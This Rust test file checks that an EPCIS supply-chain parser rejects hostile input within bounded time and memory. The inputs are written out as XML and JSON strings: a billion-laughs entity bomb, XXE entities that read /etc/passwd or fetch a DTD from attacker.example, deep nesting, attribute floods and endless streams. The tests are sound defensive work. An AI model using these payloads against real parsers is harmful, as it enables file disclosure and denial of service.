//! Input made to harm the reader: it is refused with the reason, quickly and in bounded memory.

use std::io::{BufReader, Cursor, Read};

use veridose_epcis::{EpcisError, Reader, limits, validate};

fn xml_document(prolog: &str, event_extra: &str) -> String {
    format!(
        r#"{prolog}<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ex="https://example.com/ns"
schemaVersion="2.0" creationDate="2023-04-01T08:45:16Z"><EPCISBody><EventList>
<ObjectEvent><eventTime>2023-03-27T06:45:16Z</eventTime><eventTimeZoneOffset>-05:00</eventTimeZoneOffset>
<epcList><epc>urn:epc:id:sgtin:030001.0012345.11</epc></epcList><action>OBSERVE</action>{event_extra}</ObjectEvent>
</EventList></EPCISBody></epcis:EPCISDocument>"#
    )
}

fn json_document(event_extra: &str) -> String {
    format!(
        r#"{{"@context": [{{"ex": "https://example.com/ns"}}], "type": "EPCISDocument", "schemaVersion": "2.0",
"creationDate": "2023-04-01T08:45:16Z", "epcisBody": {{"eventList": [{{"type": "ObjectEvent",
"eventTime": "2023-03-27T06:45:16Z", "eventTimeZoneOffset": "-05:00", "action": "OBSERVE",
"epcList": ["urn:epc:id:sgtin:030001.0012345.11"]{event_extra}}}]}}}}"#
    )
}

fn first_fault(text: &str) -> EpcisError {
    let mut faults = validate(text.as_bytes()).faults;
    assert!(!faults.is_empty(), "nothing was refused");
    faults.swap_remove(0)
}

#[test]
fn the_plain_documents_are_valid() {
    assert!(validate(xml_document("", "").as_bytes()).is_valid());
    assert!(validate(json_document("").as_bytes()).is_valid());
}

#[test]
fn a_doctype_is_refused_whatever_is_in_it() {
    let laughs = (1..10).fold(String::from("<!ENTITY a0 \"ha\">"), |entities, level| {
        let below = format!("&a{};", level - 1).repeat(10);
        format!("{entities}<!ENTITY a{level} \"{below}\">")
    });
    for prolog in [
        format!("<!DOCTYPE lolz [{laughs}]>"),
        "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE d [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>".to_owned(),
        "<!DOCTYPE d SYSTEM \"http://attacker.example/x.dtd\">".to_owned(),
        "<!DOCTYPE d>".to_owned(),
    ] {
        let fault = first_fault(&xml_document(&prolog, "<ex:x>&a9;&x;</ex:x>"));
        assert!(matches!(fault, EpcisError::Forbidden { .. }), "{prolog}: {fault}");
        assert!(fault.to_string().contains("DOCTYPE"), "{fault}");
    }
}

#[test]
fn entities_are_refused_in_text_and_attributes() {
    for extra in ["<ex:x>&secret;</ex:x>", "<ex:x ex:a=\"&secret;\"/>"] {
        let fault = first_fault(&xml_document("", extra));
        assert!(matches!(fault, EpcisError::Forbidden { .. }), "{extra}: {fault}");
        assert!(fault.to_string().contains("secret"), "{fault}");
    }
    let plain = xml_document("", "<ex:x ex:a=\"&lt;&#65;\">&amp;&#x42;&quot;</ex:x>");
    let events: Vec<_> = Reader::new(plain.as_bytes(), None).expect("a document").collect();
    let event = events.into_iter().next().expect("one event").expect("the five entities of XML itself are read");
    assert_eq!(event.extensions.get("https://example.com/ns", "x").and_then(|value| value.as_text()), Some("&B\""));
}

#[test]
fn references_to_characters_that_xml_has_not_are_refused() {
    for extra in ["<ex:x>&#0;</ex:x>", "<ex:x>&#8;</ex:x>", "<ex:x>&#xFFFFFFFF;</ex:x>"] {
        assert!(matches!(first_fault(&xml_document("", extra)), EpcisError::Malformed { .. }), "{extra}");
    }
}

#[test]
fn nesting_is_bounded() {
    let deep = 100_000;
    let xml = xml_document("", &format!("{}{}", "<ex:x>".repeat(deep), "</ex:x>".repeat(deep)));
    assert!(first_fault(&xml).to_string().contains("nested"), "{}", first_fault(&xml));
    let json = json_document(&format!(", \"ex:x\": {}{}", "[".repeat(deep), "]".repeat(deep)));
    assert!(first_fault(&json).to_string().contains("nested"), "{}", first_fault(&json));
}

#[test]
fn attributes_and_prefixes_are_bounded() {
    let many = |attribute: fn(usize) -> String| (0..100_000).map(attribute).collect::<Vec<_>>().join(" ");
    for attributes in
        [many(|number| format!("a{number}=\"1\"")), many(|number| format!("xmlns:p{number}=\"urn:x:{number}\""))]
    {
        let fault = first_fault(&xml_document("", &format!("<ex:x {attributes}/>")));
        assert!(matches!(fault, EpcisError::TooLarge { .. }), "{fault}");
    }
    let twice = first_fault(&xml_document("", "<ex:x a=\"1\" a=\"2\"/>"));
    assert!(matches!(twice, EpcisError::Malformed { .. }), "{twice}");
}

#[test]
fn a_text_is_bounded() {
    let long = "x".repeat(limits::TEXT_BYTES_MAX + 1);
    let xml = first_fault(&xml_document("", &format!("<ex:x>{long}</ex:x>")));
    assert!(matches!(xml, EpcisError::TooLarge { .. }), "{xml}");
    let json = first_fault(&json_document(&format!(", \"ex:x\": \"{long}\"")));
    assert!(json.to_string().contains("string of more than"), "{json}");
}

#[test]
fn the_epcs_of_one_event_are_bounded() {
    let epcs = vec!["\"urn:x:1\""; limits::EPCS_PER_EVENT_MAX + 1].join(",");
    let text = json_document("").replace("\"urn:epc:id:sgtin:030001.0012345.11\"", &epcs);
    let fault = first_fault(&text);
    assert!(fault.to_string().contains("EPCs in one event"), "{fault}");
}

/// A start, then the same bytes for ever.
fn endless(start: &str, pattern: &'static [u8]) -> impl std::io::BufRead {
    struct Forever(&'static [u8], usize);
    impl Read for Forever {
        fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
            for byte in out.iter_mut() {
                *byte = self.0[self.1 % self.0.len()];
                self.1 += 1;
            }
            Ok(out.len())
        }
    }
    BufReader::new(Cursor::new(start.to_owned().into_bytes()).chain(Forever(pattern, 0)))
}

#[test]
fn an_event_that_never_ends_is_given_up() {
    let (xml, _) =
        xml_document("", "<ex:x>@").split_once('@').map(|(a, b)| (a.to_owned(), b.to_owned())).expect("a mark");
    let (json, _) =
        json_document(", \"ex:x\": \"@").split_once('@').map(|(a, b)| (a.to_owned(), b.to_owned())).expect("a mark");
    for (start, pattern) in [
        (xml.as_str(), &b"x"[..]),
        (xml.as_str(), b"<!-- -->"),
        (xml.as_str(), b"<!--"),
        (json.as_str(), b"x"),
        (json.as_str(), b"\\\""),
        ("{\"type\": \"EPCISDocument\", \"ex\": [", b"1,"),
    ] {
        let validation = validate(endless(start, pattern));
        assert!(!validation.complete);
        let fault = &validation.faults[0];
        assert!(matches!(fault, EpcisError::TooLarge { .. }), "{fault}");
    }
}

#[test]
fn what_is_cut_off_or_not_text_is_refused() {
    let (xml, json) = (xml_document("", ""), json_document(""));
    for text in [&xml, &json] {
        for cut in (0..text.len()).step_by(7) {
            assert!(!validate(&text.as_bytes()[..cut]).is_valid(), "valid at {cut} bytes");
        }
        assert!(!validate(format!("{text} {text}").as_bytes()).is_valid());
        assert!(!validate(text.replace("urn:epc:id", "urn:epc:\u{0}id").as_bytes()).is_valid());
    }
    for text in [&b""[..], b"   ", b"hello", b"[]", b"\x00\x00", b"<", b"{", b"<a/>", b"{}", b"\xff\xfe<\x00a\x00"] {
        assert!(!validate(text).is_valid(), "{text:?}");
    }
    let mut bytes = xml.into_bytes();
    let at = bytes.windows(3).position(|window| window == b"urn").expect("there is a URN");
    bytes[at] = 0xff;
    assert!(!validate(&bytes[..]).is_valid());
    assert!(!validate(xml_document("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>", "").as_bytes()).is_valid());
}
